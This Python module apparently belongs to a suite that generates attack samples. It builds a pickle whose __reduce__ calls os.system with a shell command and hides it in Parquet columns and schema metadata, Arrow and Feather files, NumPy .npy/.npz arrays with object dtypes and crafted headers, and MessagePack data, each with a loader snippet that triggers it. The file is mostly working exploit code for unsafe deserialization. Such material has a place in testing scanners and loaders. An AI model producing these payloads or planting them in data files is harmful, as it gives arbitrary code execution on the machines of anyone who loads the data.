"""Pickles in columns and metadata of Parquet and Arrow, and in arrays of NumPy and MessagePack."""
import io
import os
import pickle
import struct

import msgpack
import msgpack_numpy
import numpy
import pyarrow
import pyarrow.feather
import pyarrow.parquet

from ..registry import Attack, SHELL, kind


class Runs:
    def __reduce__(self):
        return os.system, (SHELL,)


DATA = pickle.dumps(Runs(), 4)


@kind('columns: Parquet and Arrow')
def columns():
    table = pyarrow.table({'a': [1, 2], 'o': [b'x', DATA]})
    noted = table.select(['a']).replace_schema_metadata({'unischema': DATA})
    field = pyarrow.table({'a': [1]}, schema=pyarrow.schema([pyarrow.field('a', 'int64', metadata={'k': DATA})]))
    for compression in ('none', 'snappy', 'gzip', 'zstd', 'lz4', 'brotli'):
        for dictionary in (True, False):
            buffer = io.BytesIO()
            pyarrow.parquet.write_table(table, buffer, compression=compression, use_dictionary=dictionary)
            yield Attack('t.parquet', buffer.getvalue(), loader='import pandas, pickle\npickle.loads(pandas.read_parquet(path)["o"][1])')
    for each, get in ((noted, 'pq.read_schema(path).metadata[b"unischema"]'), (field, 'pq.read_schema(path).field(0).metadata[b"k"]')):
        buffer = io.BytesIO()
        pyarrow.parquet.write_table(each, buffer)
        yield Attack('t.parquet', buffer.getvalue(), loader=f'import pyarrow.parquet as pq, pickle\npickle.loads({get})')
        sink = io.BytesIO()
        with pyarrow.ipc.new_file(sink, each.schema) as writer:
            writer.write_table(each)
        yield Attack('t.arrow', sink.getvalue(), loader='import pyarrow, pickle\ns = pyarrow.ipc.open_file(path).schema\npickle.loads(%s)' % ('s.metadata[b"unischema"]' if each is noted else 's.field(0).metadata[b"k"]'))
    for compression in ('uncompressed', 'lz4', 'zstd'):
        for version in (1, 2):
            if version == 1 and compression != 'uncompressed':
                continue
            sink = io.BytesIO()
            pyarrow.feather.write_feather(table, sink, compression=None if version == 1 else compression, version=version)
            yield Attack('t.feather', sink.getvalue(), loader='import pyarrow.feather as f, pickle\npickle.loads(f.read_table(path)["o"][1].as_py())')


@kind('arrays: odd headers of NumPy')
def arrays():
    objects = numpy.array([Runs(), 1], object)
    fields = numpy.zeros(2, [('a', 'i4'), ('b', 'O')])
    fields['b'][1] = Runs()
    nested = numpy.zeros(1, [('x', [('y', 'O', (2,))])])
    nested[0]['x']['y'][1] = Runs()
    for array in (objects, fields, nested, objects.reshape(1, 2, order='F')):
        for version in ((1, 0), (2, 0), (3, 0)):
            buffer = io.BytesIO()
            numpy.lib.format.write_array(buffer, array, version)
            yield Attack('m.npy', buffer.getvalue(), loader='numpy')
            first = io.BytesIO()
            numpy.save(first, numpy.zeros(3))
            yield Attack('m.npy', first.getvalue() + buffer.getvalue(), loader='import numpy\nf = open(path, "rb"); numpy.load(f); numpy.load(f, allow_pickle=True)')
        for name in ('a', 'a.npy', 'x/y', 'arr.txt'):
            buffer = io.BytesIO()
            numpy.savez_compressed(buffer, **{name: array})
            yield Attack('m.npz', buffer.getvalue(), loader=f'import numpy\nnumpy.load(path, allow_pickle=True)[{name!r}]')
    body = pickle.dumps(objects, 4)
    for header in ("{'descr':'|O','fortran_order':False,'shape':(2,)}", "{'shape': (2,), 'descr': 'O', 'fortran_order': False}", "{'descr': '>O8', 'fortran_order': False, 'shape': (2,), }",
                   "{'descr': [('', '|O')], 'fortran_order': False, 'shape': (2,), }", "{'descr': ('|O', (2,)), 'fortran_order': False, 'shape': (1,), }", "{'descr': '|\\x4f', 'fortran_order': False, 'shape': (2,), }"):
        text = header.encode().ljust(117) + b'\n'
        yield Attack('m.npy', b'\x93NUMPY\1\0' + struct.pack('<H', len(text)) + text + body, loader='numpy')


@kind('msgpack: arrays of objects')
def packed():
    load = 'import msgpack, msgpack_numpy\n'
    for value in (numpy.array([Runs()], object), {'a': [{'b': numpy.array([Runs()], object)}]}, [1, numpy.array([Runs()], object)]):
        data = msgpack.packb(value, default=msgpack_numpy.encode)
        for name in ('m.msgpack', 'm.mpk', 'm.bin', 'm'):
            yield Attack(name, data, loader='msgpack-numpy')
            yield Attack(name, msgpack.packb({'n': 1}) + data, loader=load + 'for x in msgpack.Unpacker(open(path, "rb"), object_hook=msgpack_numpy.decode, strict_map_key=False): pass')
            inner = msgpack.packb({'w': data})
            yield Attack(name, inner, loader=load + 'msgpack.unpackb(msgpack.unpackb(open(path, "rb").read())["w"], object_hook=msgpack_numpy.decode, strict_map_key=False)')
            ext = msgpack.packb({'w': msgpack.ExtType(1, data)})
            yield Attack(name, ext, loader=load + 'msgpack.unpackb(msgpack.unpackb(open(path, "rb").read())["w"].data, object_hook=msgpack_numpy.decode, strict_map_key=False)')
    import zlib
    yield Attack('m.msgpack', msgpack.packb({'w': zlib.compress(DATA)}), loader='import msgpack, zlib, pickle\npickle.loads(zlib.decompress(msgpack.unpackb(open(path, "rb").read())["w"]))')
    text = msgpack.packb({b'nd': True, b'type': b'x', b'kind': b'O', b'shape': [1], b'data': pickle.dumps(numpy.array([Runs()], object), 0)})
    yield Attack('m.msgpack', text, loader='msgpack-numpy')
